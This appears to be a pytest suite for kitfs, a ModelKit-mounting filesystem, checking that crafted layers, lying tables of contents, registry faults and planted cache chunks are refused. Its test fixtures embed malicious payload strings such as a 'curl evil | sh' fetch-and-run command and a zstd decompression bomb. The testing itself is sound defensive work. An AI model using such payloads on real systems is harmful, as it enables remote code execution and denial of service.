"""Attacks on the promise that every byte (and name) a mount serves traces back to the manifest.

Crafted ModelKits pushed to the real registry (tests/crafted.py) and a
fault-injecting proxy in front of it (tests/faultproxy.py): tar headers that
lie only while a layer is listed, tables of contents that map files to other
bytes, registries that answer 416, 500, nothing or garbage while prefetch,
readahead and readers are at work, and chunk caches left behind by a crash.
Each case failed before the fix named in its docstring.
"""

from __future__ import annotations

import contextlib
import errno
import gzip
import json
import os
import time
import tracemalloc
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import trio
import zstandard
from crafted import (
    NONSENSE,
    CraftLayer,
    add_phantom,
    build_tar,
    craft_layer,
    hidden_file_lie,
    hide_entry,
    kit_blobs,
    lie_in_headers,
    publish_kit,
    sha256,
    swap_files,
)
from faultproxy import Corrupt, Fault, FaultProxy, Hang, Replace, Reset, Status, Truncate
from opening import opened, read_file

from helpers import kitfs
from kitfs.cache.fileformat import CHUNK_MAGIC, write_frame
from kitfs.engine import reader
from kitfs.engine.reader import EngineConfig
from kitfs.engine.session import OpenedKit
from kitfs.errors import FormatError, IntegrityError, KitfsError
from kitfs.modelkit import mediatypes as mt
from kitfs.modelkit.toc import LayerToc, validate_layer_toc
from kitfs.oci.client import ClientOptions, RegistryClient
from mounting import mounted
from registry import RegistryServer

A, B = os.urandom(300_000), os.urandom(300_000)


def kit_tar() -> bytes:
    """Two files of one size (a header lie can swap their names), and a small one."""
    return build_tar([("model/a.bin", A), ("model/b.bin", B), ("model/config.json", b"{}\n")])


async def state_becomes(kit: OpenedKit, state: str) -> dict[str, Any]:
    with trio.fail_after(10):
        while True:
            layer = kit.engine.status()["layers"][0]
            if layer["state"] == state:
                return dict(layer)
            await trio.sleep(0.02)


# -- tar headers that lie while a layer is listed ---------------------------------------


async def lying_listing(registry: RegistryServer, proxy: FaultProxy, name: str) -> str:
    """A kit-made layer (no table of contents) whose headers lie only while it is listed:
    the headers of a.bin and b.bin trade names, every byte after that is honest."""
    tar = kit_tar()
    layer = craft_layer(tar)
    await publish_kit(registry.host, f"lie/{name}", "v1", [layer], toc=None)
    proxy.add(Replace(lie_in_headers(tar, swap=("model/a.bin", "model/b.bin"))),
              path=layer.digest)
    return f"{proxy.host}/lie/{name}:v1"


async def test_headers_that_lied_while_listing_poison_the_layer_when_it_verifies(
    registry: RegistryServer, tmp_path: Path
) -> None:
    """Lazy mode: the layer's bytes match its digest, but walking its verified headers gives
    other names than the listing did: poisoned, and the lie is never cached (a later mount
    through an honest registry shows a.bin as a.bin). Before: verified, lie cached."""
    with FaultProxy(registry.host) as proxy:
        ref = await lying_listing(registry, proxy, "lazy")
        async with opened(ref, tmp_path / "cache") as kit:
            proxy.clear()  # honest from here on
            with contextlib.suppress(IntegrityError):
                await read_file(kit, "model/a.bin")  # lazy: may serve before the check
            with contextlib.suppress(IntegrityError):
                await read_file(kit, "model/config.json")  # the whole layer read: verified
            layer = await state_becomes(kit, "poisoned")
            assert "tar headers" in layer["reason"], layer
            with pytest.raises(IntegrityError):
                await read_file(kit, "model/a.bin")
    honest = ref.replace(proxy.host, registry.host)
    async with opened(honest, tmp_path / "cache") as kit:
        assert await read_file(kit, "model/a.bin") == A
        assert await read_file(kit, "model/b.bin") == B


async def test_strict_mode_serves_nothing_of_a_layer_whose_headers_lied(
    registry: RegistryServer, tmp_path: Path
) -> None:
    """--verify strict: no byte before the layer (and its layout) is verified. Before: the
    layer verified and a.bin served b.bin's bytes."""
    strict = EngineConfig(chunk_size=1 << 20, prefetch="none", verify="strict", read_timeout=10)
    with FaultProxy(registry.host) as proxy:
        ref = await lying_listing(registry, proxy, "strict")
        async with opened(ref, tmp_path / "cache", strict) as kit:
            proxy.clear()
            with pytest.raises(IntegrityError):
                await read_file(kit, "model/a.bin")
            assert kit.engine.status()["layers"][0]["state"] == "poisoned"


async def test_a_layout_is_cached_once_checked_and_checked_again_after_that(
    registry: RegistryServer, tmp_path: Path
) -> None:
    """An honest walk is cached once its layer verified: the next mount walks nothing.
    On a node with a verified record but no cached layout, the walk is redone over
    chunks checked against the record, before any file is served."""
    layer = craft_layer(kit_tar())
    ref = await publish_kit(registry.host, "lie/cached", "v1", [layer], toc=None)
    cache = tmp_path / "cache"
    async with opened(ref, cache) as kit:
        assert await read_file(kit, "model/a.bin") == A
        assert await read_file(kit, "model/config.json") == b"{}\n"
        await state_becomes(kit, "verified")
    with FaultProxy(registry.host) as proxy:
        via = ref.replace(registry.host, proxy.host)
        async with opened(via, cache) as kit:
            assert proxy.blob_requests(layer.digest) == 0  # listed from the cache
            assert kit.engine.layers[layer.digest].layout is not None
            assert kit.engine.layers[layer.digest].layout.origin == "cached"  # type: ignore[union-attr]
        # the cached layout gone, the verified record kept: a lying listing is caught
        # before a byte is served, not after
        for record in (cache / "tocs").iterdir():
            record.unlink()
        proxy.add(Replace(lie_in_headers(kit_tar(), swap=("model/a.bin", "model/b.bin"))),
                  path=layer.digest)
        async with opened(via, cache) as kit:
            proxy.clear()
            with pytest.raises(IntegrityError):
                await read_file(kit, "model/a.bin")


# -- tables of contents that lie --------------------------------------------------------


def toc_lies() -> dict[str, Callable[[bytes], tuple[CraftLayer, LayerToc]]]:
    def honest(tar: bytes) -> CraftLayer:
        return craft_layer(tar, chunk_size=1 << 20, block_size=256 << 10)

    def with_toc(fn: Callable[[LayerToc], LayerToc]) -> Callable[[bytes], tuple[CraftLayer,
                                                                               LayerToc]]:
        def make(tar: bytes) -> tuple[CraftLayer, LayerToc]:
            layer = honest(tar)
            assert layer.toc is not None
            return layer, fn(layer.toc)
        return make

    return {
        "swap": with_toc(lambda t: swap_files(t, "model/a.bin", "model/b.bin")),
        "hidden-after-end": lambda tar: hidden_file_lie(
            tar, "model/config.json", b"import os; os.system('evil')\n",
            chunk_size=1 << 20, block_size=256 << 10),
        "phantom": with_toc(lambda t: add_phantom(t, "model/extra.py")),
        "hides-an-entry": with_toc(lambda t: hide_entry(t, "model/b.bin")),
    }


@pytest.mark.parametrize("lie", sorted(toc_lies()))
@pytest.mark.parametrize("prefetch", ["none", "model"])
async def test_a_table_of_contents_is_held_to_the_tar_before_a_file_is_served(
    registry: RegistryServer, tmp_path: Path, lie: str, prefetch: str
) -> None:
    """Pinned by the manifest but written by the kit's author: a table of contents that
    maps a file to other bytes, to bytes after the end-of-archive, lists a file the tar
    lacks or hides one it holds is refused before any file of its layer is read.
    Before: each served what the table said."""
    layer, toc = toc_lies()[lie](kit_tar())
    ref = await publish_kit(registry.host, f"toc/{lie}", prefetch, [layer], toc=[toc])
    config = EngineConfig(chunk_size=1 << 20, prefetch=prefetch, read_timeout=10)  # type: ignore[arg-type]
    async with opened(ref, tmp_path / "cache", config) as kit:
        for path in ("model/config.json", "model/a.bin"):
            with pytest.raises(IntegrityError, match="table of contents"):
                await read_file(kit, path)
        status = kit.engine.status()["layers"][0]
        assert status["state"] == "poisoned" and "table of contents" in status["reason"]


@pytest.mark.parametrize("compression", ["none", "gzip", "zstd"])
async def test_what_pack_writes_passes_the_check(
    registry: RegistryServer, tmp_path: Path, compression: str
) -> None:
    project = tmp_path / "p"
    (project / "model" / "sub").mkdir(parents=True)
    (project / "model" / "w.bin").write_bytes(os.urandom(3 << 20))
    (project / "model" / "sub" / "t.json").write_text("{}")
    (project / "Kitfile").write_text(
        "manifestVersion: 1.0.0\npackage:\n  name: p\nmodel:\n  name: m\n  path: ./model\n")
    ref = f"{registry.host}/toc/packed-{compression}:v1"
    proc = kitfs("pack", str(project), "-t", ref, "--compression", compression,
                 home=tmp_path / "home")
    assert proc.returncode == 0, proc.stderr
    async with opened(ref, tmp_path / "cache") as kit:
        got = await read_file(kit, "model/w.bin")
        assert got == (project / "model" / "w.bin").read_bytes()
        assert all(layer.layout_ok for layer in kit.engine.layers.values())


@pytest.mark.parametrize("mutation", ["entry_past_blob_end", "size_1tib", "negative_offset",
                                      "chunk_size_zero", "chunk_past_blob_end"])
async def test_nonsense_in_a_table_of_contents_is_one_line(
    registry: RegistryServer, tmp_path: Path, mutation: str
) -> None:
    assert mutation in NONSENSE, sorted(NONSENSE)
    layer = craft_layer(kit_tar())
    assert layer.toc is not None
    ref = await publish_kit(registry.host, "toc/nonsense", mutation.replace("_", "-"),
                            [layer], toc=[NONSENSE[mutation](layer.toc)])
    proc = kitfs("ls", ref)
    assert proc.returncode == 1, proc
    assert len(proc.stderr.strip().splitlines()) == 1 and "table of contents" in proc.stderr
    assert "Traceback" not in proc.stderr


# -- a registry that fails while prefetch, readahead and readers are at work ---------------

FAULTS: dict[str, Callable[[], Fault]] = {
    "416-no-body": lambda: Status(416, headers={"Content-Length": "100"}),
    "500": lambda: Status(500, b"boom"),
    "reset": lambda: Reset(),
    "truncated": lambda: Truncate(1000),
    "hang": lambda: Hang(4, after_bytes=0),
    "lie": lambda: Corrupt(list(range(0, 64 << 20, 100_003))),
}


@pytest.fixture(scope="module")
def weights_kit(registry: RegistryServer, tmp_path_factory: pytest.TempPathFactory
                ) -> tuple[str, bytes]:
    root = tmp_path_factory.mktemp("faults")
    project = root / "p"
    (project / "model").mkdir(parents=True)
    weights = os.urandom(40 << 20)
    (project / "model" / "w.safetensors").write_bytes(weights)
    (project / "Kitfile").write_text(
        "manifestVersion: 1.0.0\npackage:\n  name: p\nmodel:\n  name: m\n  path: ./model\n")
    ref = f"{registry.host}/faults/w:v1"
    proc = kitfs("pack", str(project), "-t", ref, home=root / "home")
    assert proc.returncode == 0, proc.stderr
    return ref, weights


@pytest.mark.parametrize("fault", sorted(FAULTS))
@pytest.mark.parametrize("work", ["prefetch", "readahead", "foreground"])
async def test_no_registry_fault_ends_the_engine(
    registry: RegistryServer, weights_kit: tuple[str, bytes], tmp_path: Path,
    fault: str, work: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Whatever the registry does to background prefetch, readahead or a reader, reads fail
    with a kitfs error or return the right bytes, and once it behaves every byte reads
    right: nothing escaped into the nursery (which would end the daemon). Before: a 416
    with a Content-Length and no body raised httpx.ResponseNotRead into the root nursery."""
    ref, weights = weights_kit
    # Failed reads are remembered for a while; waiting out the default 2 s, 18 times over,
    # tests nothing more than waiting out a shorter memory.
    monkeypatch.setattr(reader, "FAILED_READ_MEMORY_S", 0.2)
    config = EngineConfig(chunk_size=1 << 20, read_timeout=3, memory_bytes=16 << 20,
                          prefetch="model" if work == "prefetch" else "none")
    with FaultProxy(registry.host) as proxy:
        async with opened(ref.replace(registry.host, proxy.host), tmp_path / "cache",
                          config) as kit:
            node = kit.tree.nodes["model/w.safetensors"]
            layer = kit.engine.layers[node.layer or ""]
            layer.layout_ok = True  # the faults are for the data path
            proxy.add(FAULTS[fault](), method="GET", path=node.layer or "",
                      overlaps=(node.offset + (20 << 20), node.offset + (40 << 20))
                      if work == "readahead" else None)
            if work == "prefetch":
                await trio.sleep(1.5)
            elif work == "readahead":  # a stream from the start: readahead past 20 MiB
                with contextlib.suppress(KitfsError):
                    for off in range(0, 24 << 20, 1 << 20):
                        got = bytes(await kit.engine.read(node, off, 1 << 20))
                        assert got == weights[off : off + (1 << 20)]
                await trio.sleep(0.5)
            else:
                off = 7 << 20
                try:
                    got = bytes(await kit.engine.read(node, off, 1 << 20))
                    assert got == weights[off : off + (1 << 20)]
                except KitfsError:
                    pass
            proxy.clear()
            with trio.fail_after(15):  # requests that hung before the clear end first
                while kit.engine.ctx.flights:
                    await trio.sleep(0.05)
            await trio.sleep(0.3)  # past FAILED_READ_MEMORY_S
            assert await read_file(kit, "model/w.safetensors") == weights
            assert layer.state != "poisoned"


# -- what a lie leaves behind -----------------------------------------------------------


async def kit_layer_kit(registry: RegistryServer, name: str, size: int = 3 << 20
                        ) -> tuple[str, CraftLayer, bytes]:
    weights = os.urandom(size)
    tar = build_tar([("model/w.bin", weights), ("model/config.json", b"{}\n")])
    layer = craft_layer(tar)
    return await publish_kit(registry.host, f"left/{name}", "v1", [layer], toc=None), layer, weights


async def test_unverified_chunks_on_disk_are_not_served_by_the_next_mount(
    registry: RegistryServer, tmp_path: Path
) -> None:
    """A mount that fetched a lie and died before its layer verified (kill -9) left the
    chunk on disk; the next mount, through an honest registry, fetches it again.
    Before: the next mount served the lie from the disk cache."""
    ref, layer, weights = await kit_layer_kit(registry, "crash")
    cache = tmp_path / "cache"
    with FaultProxy(registry.host) as proxy:
        proxy.add(Corrupt([(1 << 20) + 4242]), path=layer.digest)
        async with opened(ref.replace(registry.host, proxy.host), cache) as kit:
            node = kit.tree.nodes["model/w.bin"]
            got = bytes(await kit.engine.read(node, 1 << 20, 1 << 20))  # lazy: served
            assert got != weights[1 << 20 : 2 << 20]
            await kit.engine.flush()  # on disk; the layer was never read whole
            assert kit.engine.status()["layers"][0]["state"] == "unverified"
    async with opened(ref, cache) as kit:
        node = kit.tree.nodes["model/w.bin"]
        assert bytes(await kit.engine.read(node, 1 << 20, 1 << 20)) == weights[1 << 20 : 2 << 20]


async def test_a_planted_chunk_under_a_digest_key_is_fetched_again(
    registry: RegistryServer, tmp_path: Path
) -> None:
    """A chunk file with a good frame but the wrong bytes is checked against the digest it
    is keyed by and fetched again. Before: served (only its xxh3 was checked)."""
    layer = craft_layer(kit_tar(), chunk_size=1 << 20)
    ref = await publish_kit(registry.host, "left/planted", "v1", [layer])
    cache = tmp_path / "cache"
    async with opened(ref, cache) as kit:
        assert await read_file(kit, "model/a.bin") == A
    planted = 0
    for path in (cache / "chunks").glob("*/*.b3"):
        write_frame(path.parent, path.name, CHUNK_MAGIC, memoryview(os.urandom(
            path.stat().st_size - 32)), sync=False)
        planted += 1
    assert planted
    async with opened(ref, cache) as kit:
        assert await read_file(kit, "model/a.bin") == A
        assert await read_file(kit, "model/b.bin") == B


async def test_one_bad_response_fails_one_read_and_the_next_fetches_again(
    registry: RegistryServer, tmp_path: Path
) -> None:
    """A layer checked chunk by chunk is not poisoned by one lie. Before: poisoned until
    remount."""
    weights = os.urandom(4 << 20)
    tar = build_tar([("model/w.bin", weights), ("model/config.json", b"{}\n")])
    layer = craft_layer(tar, chunk_size=1 << 20)
    ref = await publish_kit(registry.host, "left/once", "v1", [layer])
    with FaultProxy(registry.host) as proxy:
        async with opened(ref.replace(registry.host, proxy.host), tmp_path / "cache") as kit:
            await read_file(kit, "model/config.json")  # layout checked, honest so far
            proxy.add(Corrupt(list(range(0, len(layer.blob), 4099))), path=layer.digest,
                      count=1)
            with pytest.raises(IntegrityError):
                await read_file(kit, "model/w.bin")
            assert await read_file(kit, "model/w.bin") == weights
            assert kit.engine.status()["layers"][0]["state"] != "poisoned"


# -- through a real mount ---------------------------------------------------------------


def status_json(mountpoint: Path) -> dict[str, Any]:
    proc = kitfs("status", str(mountpoint), "--json")
    assert proc.returncode == 0, proc.stderr
    doc = json.loads(proc.stdout)
    return doc[0] if isinstance(doc, list) else doc  # type: ignore[no-any-return]


def layer_states(mountpoint: Path) -> list[str]:
    text = json.dumps(status_json(mountpoint))
    return [s for s in ("poisoned", "verified", "unverified") if f'"{s}"' in text]


async def test_a_poisoned_layer_leaves_no_page_readable(
    registry: RegistryServer, tmp_path: Path
) -> None:
    """Pages read (lazily) before the layer was found to lie are dropped from the kernel's
    cache: a new reader gets EIO, not the lie. Before: keep_cache served it again."""
    ref, layer, _ = await kit_layer_kit(registry, "pages", 2 << 20)
    with FaultProxy(registry.host) as proxy:
        proxy.add(Corrupt([4096]), path=layer.digest)
        via = ref.replace(registry.host, proxy.host)
        with mounted(via, tmp_path / "mnt", tmp_path / "cache", "--prefetch", "none") as mnt:
            with open(mnt / "model" / "w.bin", "rb") as f:
                assert len(f.read(65536)) == 65536  # lazy: the lie, now in the page cache
                with contextlib.suppress(OSError):  # the rest: then the layer verifies
                    f.read()
            with contextlib.suppress(OSError):
                (mnt / "model" / "config.json").read_bytes()
            deadline = time.monotonic() + 15
            while "poisoned" not in layer_states(mnt):
                assert time.monotonic() < deadline, status_json(mnt)
                time.sleep(0.1)
            fd = os.open(mnt / "model" / "w.bin", os.O_RDONLY)
            try:
                with pytest.raises(OSError) as err:
                    os.pread(fd, 65536, 0)
                assert err.value.errno == errno.EIO
            finally:
                os.close(fd)


async def test_a_read_against_a_hung_registry_fails_within_the_timeout_once(
    registry: RegistryServer, tmp_path: Path
) -> None:
    """The kernel asks again for the page its readahead could not get; that second request
    fails at once. Before: a read took twice --timeout."""
    ref, layer, _ = await kit_layer_kit(registry, "hung", 4 << 20)
    with FaultProxy(registry.host) as proxy:
        via = ref.replace(registry.host, proxy.host)
        with mounted(via, tmp_path / "mnt", tmp_path / "cache", "--prefetch", "none",
                     "--timeout", "3") as mnt:
            proxy.add(Hang(30, after_bytes=0), path=layer.digest)
            fd = os.open(mnt / "model" / "w.bin", os.O_RDONLY)
            try:
                started = time.monotonic()
                with pytest.raises(OSError) as err:
                    await trio.to_thread.run_sync(os.pread, fd, 1 << 20, 1 << 20)
                took = time.monotonic() - started
            finally:
                os.close(fd)
            proxy.clear()
            assert err.value.errno in (errno.EIO, errno.ETIMEDOUT)
            assert took < 3 * 1.5, took


def test_a_cache_directory_others_can_write_is_refused(tmp_path: Path) -> None:
    cache = tmp_path / "cache"
    cache.mkdir()
    os.chmod(cache, 0o777)
    proc = kitfs("mount", "127.0.0.1:1/none:v1", str(tmp_path / "mnt"), "--cache-dir",
                 str(cache))
    assert proc.returncode != 0
    assert "cache" in proc.stderr and "Traceback" not in proc.stderr, proc.stderr
    assert len(proc.stderr.strip().splitlines()) == 1, proc.stderr


# -- found by a review that attacked the above ----------------------------------------------


@pytest.mark.parametrize("compression", ["gzip", "zstd"])
def test_compressed_chunks_must_make_up_the_whole_blob(compression: str) -> None:
    """A benign tar as a gzip member / zstd frame in front, another tar cut into chunks
    behind: `kit unpack` decompresses the blob and stops at the first tar's end, a mount of
    the chunks showed the second. Before: the gap was allowed and the mount served it."""
    benign = build_tar([("model/run.py", b"print('hello')\n")])
    seek = craft_layer(build_tar([("model/run.py", b"import os; os.system('evil')\n")]),
                       compression=compression)  # type: ignore[arg-type]
    assert seek.toc is not None
    prefix = (gzip.compress(benign, mtime=0) if compression == "gzip"
              else zstandard.ZstdCompressor().compress(benign))
    blob = prefix + seek.blob
    toc = replace(seek.toc, digest=sha256(blob), blob_size=len(blob), chunks=tuple(
        replace(c, blob_offset=c.blob_offset + len(prefix)) for c in seek.toc.chunks))
    with pytest.raises(FormatError, match=r"starts at \d+ in the blob"):
        validate_layer_toc(toc, len(blob), True)


async def test_a_table_of_contents_cannot_claim_another_layers_cached_chunks(
    registry: RegistryServer, tmp_path: Path
) -> None:
    """Kit B's blob is benign, its table of contents carries kit A's chunk digests and
    entries. Keyed by digest alone, a node that had mounted A served A's bytes as B's.
    Now chunks a table of contents vouches for are cached per layer."""
    evil_py = b"import os; os.system('curl evil | sh')  #"
    benign_py = b"print('hello')".ljust(len(evil_py))
    a = craft_layer(build_tar([("model/run.py", evil_py)]))
    b = craft_layer(build_tar([("model/run.py", benign_py)]))
    assert a.toc is not None and len(a.blob) == len(b.blob)
    ref_a = await publish_kit(registry.host, "alias/a", "v1", [a])
    lie = replace(a.toc, digest=b.digest, diff_id=b.digest)
    ref_b = await publish_kit(registry.host, "alias/b", "v1", [replace(b, toc=lie)])
    cache = tmp_path / "cache"
    async with opened(ref_a, cache) as kit:
        assert await read_file(kit, "model/run.py") == evil_py
    async with opened(ref_b, cache) as kit:
        with pytest.raises(IntegrityError):
            await read_file(kit, "model/run.py")


async def test_a_seekable_chunk_that_decompresses_past_its_size_stops_there(
    registry: RegistryServer, tmp_path: Path
) -> None:
    """A few KiB of zstd that expand to 256 MiB, where the table of contents says 1 MiB:
    refused having held little more than 1 MiB. Before: all 256 MiB, then the check."""
    tar = build_tar([("model/w.bin", os.urandom(3 << 20))])
    seek = craft_layer(tar, compression="zstd", chunk_size=1 << 20)
    assert seek.toc is not None
    bomb = zstandard.ZstdCompressor(level=1).compress(bytes(256 << 20))
    c0 = seek.toc.chunks[0]
    shift = len(bomb) - c0.blob_size
    blob = bomb + seek.blob[c0.blob_offset + c0.blob_size:]
    chunks = (replace(c0, blob_size=len(bomb)),
              *(replace(c, blob_offset=c.blob_offset + shift) for c in seek.toc.chunks[1:]))
    toc = replace(seek.toc, digest=sha256(blob), blob_size=len(blob), chunks=chunks)
    layer = CraftLayer(blob, seek.media_type, "./model", toc=toc, diff_id=sha256(tar))
    ref = await publish_kit(registry.host, "bomb/seekable", "v1", [layer])
    async with opened(ref, tmp_path / "cache") as kit:
        node = kit.tree.nodes["model/w.bin"]
        tracemalloc.start()
        try:
            with pytest.raises(KitfsError):
                await kit.engine.read(node, 0, 4096)
            _, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
    assert peak < 48 << 20, f"peak {peak >> 20} MiB for a 1 MiB chunk"


async def test_a_kit_zstd_layer_of_zeros_is_listed_and_read_in_bounded_memory(
    registry: RegistryServer, tmp_path: Path
) -> None:
    """An honest layer `kit` compressed: 256 MiB of zeros in about 8 KiB. Before: each
    network piece was decompressed whole (256 MiB at once, 30000-fold)."""
    zeros = 256 << 20
    tar = build_tar([("model/zeros.bin", bytes(zeros))])
    layer = craft_layer(tar, compression="zstd", chunked=False)
    del tar
    ref = await publish_kit(registry.host, "bomb/zeros", "v1", [layer], toc=None)
    config = EngineConfig(chunk_size=1 << 20, prefetch="none", read_timeout=30,
                          memory_bytes=16 << 20)
    tracemalloc.start()
    try:
        async with opened(ref, tmp_path / "cache", config) as kit:
            node = kit.tree.nodes["model/zeros.bin"]
            tail = bytes(await kit.engine.read(node, zeros - 4096, 4096))
            await kit.engine.flush()
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert tail == bytes(4096)
    assert peak < 96 << 20, f"peaked at {peak >> 20} MiB"


async def test_a_manifest_that_lies_about_a_verified_layers_size_is_refused(
    registry: RegistryServer, tmp_path: Path
) -> None:
    """Another manifest names a verified layer with a size of 2^38: its cached layout and
    record are not used (it used to plan 262144 chunks for a 1 MiB layer), the mount is
    refused in one line, and the honest kit still mounts from its records."""
    layer = craft_layer(build_tar([("model/a.bin", os.urandom(1 << 20))]), chunked=False)
    ref = await publish_kit(registry.host, "size/honest", "v1", [layer], toc=None)
    cache = tmp_path / "cache"
    async with opened(ref, cache) as kit:
        await read_file(kit, "model/a.bin")
        await state_becomes(kit, "verified")
    manifest, _, _ = kit_blobs([layer], toc=None)
    lied = manifest.replace(f'"size":{len(layer.blob)}'.encode(), f'"size":{1 << 38}'.encode())
    assert lied != manifest
    async with RegistryClient(registry.host, ClientOptions()) as client:
        await client.put_manifest("size/honest", "lie", lied, mt.OCI_MANIFEST)
    proc = kitfs("ls", f"{registry.host}/size/honest:lie")
    assert proc.returncode == 1 and len(proc.stderr.strip().splitlines()) == 1, proc.stderr
    async with opened(ref, cache) as kit:
        assert kit.engine.status()["layers"][0]["state"] == "verified"


async def test_strict_mode_serves_a_packed_layer_once_its_blob_is_hashed(
    registry: RegistryServer, tmp_path: Path
) -> None:
    """Chunk digests are the table's author's word: strict mode serves a byte of a kitfs
    layer only once the whole blob matched its digest, and records that, so the next
    mount on the node serves at once."""
    layer = craft_layer(kit_tar(), chunk_size=1 << 20)
    ref = await publish_kit(registry.host, "strict/packed", "v1", [layer])
    strict = EngineConfig(chunk_size=1 << 20, prefetch="none", verify="strict", read_timeout=10)
    cache = tmp_path / "cache"
    async with opened(ref, cache, strict) as kit:
        assert kit.engine.status()["layers"][0]["state"] == "unverified"
        assert await read_file(kit, "model/b.bin") == B
        assert kit.engine.status()["layers"][0]["state"] == "verified"
    async with opened(ref, cache, strict) as kit:
        assert kit.engine.status()["layers"][0]["state"] == "verified"  # recorded
        assert await read_file(kit, "model/a.bin") == A
